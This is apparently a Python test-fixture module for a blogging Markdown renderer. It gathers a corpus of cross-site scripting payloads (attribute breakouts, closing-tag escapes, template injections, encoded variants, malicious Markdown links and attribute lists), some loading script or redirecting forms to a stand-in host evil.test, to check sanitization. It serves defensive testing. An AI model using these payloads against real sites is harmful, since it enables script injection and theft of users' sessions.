"""Collect what a hostile author types: ways out of attributes, scripts, templates and Markdown, beside plain HTML.

Each entry calls `alert` when it gets its way, or leaves an element or address behind by which it can be told.
"""

from __future__ import annotations

from tests.content.vectors import HTML, URLS

# Written for what stands in values of attributes, in scripts, in templates, in headers and in JSON.
PLACES = r"""
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
"><script>alert(1)</script>
'><svg/onload=alert(1)>
" onmouseover=alert(1) x="
' onmouseover=alert(1) x='
" autofocus onfocus=alert(1) x="
' autofocus onfocus='alert(1)
`"'><img src=x onerror=alert(1)>
" style="animation-name:x" onanimationstart="alert(1)
x onerror=alert(1) y
"/><iframe srcdoc="<script>parent.alert(1)</script>">
--><img src=x onerror=alert(1)><!--
]]><img src=x onerror=alert(1)>
</title><img src=x onerror=alert(1)>
</textarea><img src=x onerror=alert(1)>
</option></select><img src=x onerror=alert(1)>
</script><img src=x onerror=alert(1)>
</style><img src=x onerror=alert(1)>
</template><img src=x onerror=alert(1)>
</noscript><img src=x onerror=alert(1)>
</iframe><img src=x onerror=alert(1)>
</code></pre><img src=x onerror=alert(1)>
</legend></fieldset><svg onload=alert(1)>
</summary></updated><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
&lt;/content&gt;<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>
'-alert(1)-'
"-alert(1)-"
\"-alert(1)//
\'-alert(1)//
";alert(1);//
';alert(1);//
${alert(1)}
`${alert(1)}`
\u003cimg src=x onerror=alert(1)\u003e
\x3cimg src=x onerror=alert(1)\x3e
%3Cimg%20src=x%20onerror=alert(1)%3E
%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E
&lt;img src=x onerror=alert(1)&gt;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
&quot;&gt;&lt;img src=x onerror=alert(1)&gt;
{{ 7*7 }}{{ config }}<img src=x onerror=alert(1)>
{% raw %}<img src=x onerror=alert(1)>{% endraw %}
{{ "<img src=x onerror=alert(1)>"|safe }}
{{constructor.constructor('alert(1)')()}}
<%= alert(1) %><img src=x onerror=alert(1)>
x" y><svg onload=alert(1)> 1x, x" 2x
javascript:alert(1)
javascript:alert(1)//https://blog.example/
https://blog.example/"onmouseover="alert(1)
https://blog.example/'onmouseover='alert(1)
/x"><img src=x onerror=alert(1)>
//evil.test/x"onerror="alert(1)
data:text/html,<script>alert(1)</script>
<script src=https://evil.test/x.js></script>
<link rel=import href=//evil.test/x>
<iframe src=//evil.test></iframe>
<form action=//evil.test><button>x</button></form>
<base href=//evil.test><a href=x>x</a>
<img src=x onerror=alert`1`>
<img src=x onerror=&#97;lert(1)>
<img src=x onerror=window['al'+'ert'](1)>
<svg><script>&#97;lert(1)</script></svg>
<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>
<details open ontoggle=alert(1)><summary>x</summary></details>
<input autofocus onfocus=alert(1)>
<video><source onerror=alert(1)></video>
<a href="java&#x73;cript:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<button popovertarget=x onbeforetoggle=alert(1)>x</button><p popover id=x>x</p>
<p onscrollend=alert(1) oncontentvisibilityautostatechange=alert(1)>x</p>
""".strip("\n").split("\n")

# Written for the Markdown dialect, its attribute lists and what Byline adds to it.
MARKDOWN = r"""
[x](javascript:alert(1))
[x](<javascript:alert(1)>)
[x](java&#115;cript:alert(1))
[x](https://blog.example "\" onmouseover=alert(1) \"")
[x](x '" onclick="alert(1)')
[x]: javascript:alert(1)
<javascript:alert(1)>
<a@b.example"onclick="alert(1)>
![x" onerror="alert(1)](x.png)
![x](x.png "\" onerror=\"alert(1)")
![x](javascript:alert(1))
![<img src=x onerror=alert(1)>](x.png)
[<img src=x onerror=alert(1)>](x)
*x*{: onclick="alert(1)"}
*x*{: style="background:url(javascript:alert(1))"}
[x](y){: href="javascript:alert(1)"}
![x](y){: onerror="alert(1)" srcset="javascript:alert(1) 2x"}
## x {#x" onclick="alert(1)}
## <img src=x onerror=alert(1)>
`<img src=x onerror=alert(1)>`
`` ` <script>alert(1)</script> ` ``
| <img src=x onerror=alert(1)> | x |
$$\href{javascript:alert(1)}{x}$$
$$\text{<img src=x onerror=alert(1)>}$$
$$\class{x" onclick="alert(1)}{x}$$
$$\unicode{<script>alert(1)</script>}$$
x[^"><img src=x onerror=alert(1)>]
*[x]: "><img src=x onerror=alert(1)>
> <img src=x onerror=alert(1)>
- <svg onload=alert(1)>
<div markdown="1">[x](javascript:alert(1))</div>
<div markdown="1" onclick="alert(1)">*x*</div>
\<img src=x onerror=alert(1)\>
{::nomarkdown}<img src=x onerror=alert(1)>{:/}
{::comment}--><img src=x onerror=alert(1)>{:/}
{::options parse_block_html="true" /}<img src=x onerror=alert(1)>
""".strip("\n").split("\n")

# Whole blocks, which have several lines.
BLOCKS = (
    '```x" onclick="alert(1)\ncode\n```',
    "```html\n<img src=x onerror=alert(1)>\n```",
    "~~~\n</code></pre><img src=x onerror=alert(1)>\n~~~\n{: .language-x onclick='alert(1)'}",
    '{: onclick="alert(1)"}\nA paragraph.',
    '{:x: onclick="alert(1)"}\n\nA paragraph.\n{: x}',
    "Term\n: <img src=x onerror=alert(1)>",
    'A note.[^hostile]\n\n[^hostile]: <img src=x onerror=alert(1)> [x](javascript:alert(1))\n{: onclick="alert(1)"}',
    '[ref]: <javascript:alert(1)> "x\\" onclick=\\"alert(1)"\n\n[x][ref] ![x][ref]',
    "a | b\n--|--\n<img src=x onerror=alert(1)> | [x](javascript:alert(1))",
    "$$\n\\begin{align}\\href{javascript:alert(1)}{x} &= <img src=x onerror=alert(1)>\\end{align}\n$$",
)


def corpus() -> list[str]:
    """Return every entry that can stand in a field of one line."""
    urls = [url for url in URLS if "alert" in url]
    return [*PLACES, *HTML, *MARKDOWN, *urls]


def bodies() -> list[str]:
    """Return every entry as Markdown: each field's entries, every address as a link and as a picture, and blocks."""
    links = [f'[x]({url}) ![x]({url}) <a href="{url}">x</a> <{url}>' for url in URLS]
    return [*PLACES, *HTML, *MARKDOWN, *links, *BLOCKS]
